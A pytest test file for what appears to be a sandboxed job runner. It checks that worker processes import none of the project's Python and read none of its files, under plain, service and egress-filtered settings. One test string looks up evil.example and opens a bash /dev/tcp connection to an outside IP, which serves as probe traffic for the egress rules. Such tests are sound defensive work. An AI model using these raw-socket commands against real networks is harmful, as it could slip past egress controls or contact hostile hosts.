"""A worker imports nothing, and reads no file of Python or Airlock: an upgrade may replace them."""

import socket
import sys
from pathlib import Path

import pytest

from tests.attacks import outside
from tests.fakes import zone
from tests.faults.direct import direct
from tests.faults.jobs import run_to_end
from tests.lab import world
from tests.lab.lab import Fleet
from tests.lab.service import serving

pytestmark = pytest.mark.lab

ROOT = Path(__file__).parents[2]
AUDITED = ROOT / "tests/service/audited.py"
FILES = (
    sys.prefix,
    f"{sys.base_prefix}/lib/python3",
    str(ROOT / "bootstrap"),
    str(ROOT / "agent-config"),
)


# A service container ends at once, after it was ready, so that what reports that runs too.
SERVICES = (
    "services: {{web: {{image: '{image}', ready: 'http:8000', "
    "command: [timeout, '2', python3, -m, http.server, '8000']}}}}, "
)
LOOKUPS = (
    "getent ahosts git.allowed.example; getent ahosts evil.example; "
    "bash -c 'echo x >/dev/tcp/203.0.113.7/443'; true"
)


@pytest.mark.parametrize(
    ("allow", "command"),
    [
        ("", "true"),
        (SERVICES, "sleep 3"),
        ('egress: {{hosts: "*.allowed.example"}}, ', LOOKUPS),
        ("egress: {{mode: observe}}, ", LOOKUPS),
    ],
    ids=["plain", "services", "egress", "egress-observed"],
)
def test_worker_imports_and_reads_nothing_of_ours(
    fleet: Fleet, tmp_path: Path, allow: str, command: str
) -> None:
    seen = tmp_path / "seen"
    with direct(fleet, allow.format(image=fleet.lab.image)) as jobs:
        program = (sys.executable, "-I", str(AUDITED), str(seen))
        with (
            serving(fleet, program=program, config=jobs.config) as service,
            zone.serving(outside.ZONE, *world.inside_world(_resolver)),
        ):
            log = run_to_end(jobs.start(command, program=service.launcher))
    assert ("service web ended while the job ran" in log) == (allow == SERVICES), log
    lines = seen.read_text().splitlines()
    assert len(lines) > 50, "the list of a whole job is longer: is the hook at work?"
    imported = [line for line in lines if line.startswith("import ")]
    read = [line for line in lines if line.removeprefix("open ").startswith(FILES)]
    assert not imported
    assert not read


def _resolver() -> tuple[socket.socket, socket.socket]:
    return zone.sockets(world.WORLD)
